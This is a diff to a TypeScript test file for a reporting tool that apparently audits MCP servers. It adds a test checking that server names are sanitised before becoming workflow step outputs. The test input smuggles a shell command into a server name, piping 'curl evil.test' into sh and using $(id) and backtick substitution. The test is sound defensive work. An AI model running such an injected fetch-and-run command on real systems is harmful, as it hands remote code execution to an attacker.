@@ -2,6 +2,7 @@ import type { Finding } from '../../src/checks/types.js';
 import { formatAnnotations } from '../../src/report/annotations.js';
 import { formatComment } from '../../src/report/comment.js';
 import { formatConsole, formatOutputLines } from '../../src/report/console.js';
+import { formatOutputs } from '../../src/report/outputs.js';
 import { codeSpan, escapeMarkdown, escapeSarifText, escapeTableCell, fenceCommands, showControls } from '../../src/report/escape.js';
 import type { Report } from '../../src/report/report.js';
 import { formatSarif } from '../../src/report/sarif.js';
@@ -147,6 +148,13 @@ describe('reporters given the server\'s words', () => {
     const [result] = formatSarif(report, [], { fallbackLocation: { file: 'README.md' } }).runs[0].results ?? [];
     expect(result.message.text).not.toMatch(/(?<!\\)[[\]]/);
     expect(result.message.text).toContain('!\\[x\\](http://127.0.0.1:9/pixel.png)');
+  });
+
+  it('step outputs carry no shell code of the server\'s into a run: script that pastes them', () => {
+    const outputs = formatOutputs({ ...report, server: { name: 'x"; curl evil.test | sh; echo "$(id)`id`\nnext', version: '1.2.3-beta+build', protocolVersion: '2025-11-25', capabilities: {} } });
+    expect(outputs['server-name']).toBe('x__ curl evil.test _ sh_ echo ___id__id__next');
+    expect(outputs['server-version']).toBe('1.2.3-beta+build');
+    expect(formatOutputs({ ...report, server: { ...report.server!, name: 'mcp-servers/everything' } })['server-name']).toBe('mcp-servers/everything');
   });
 
   it('annotations are plain text with visible escapes; their title is the check id', () => {
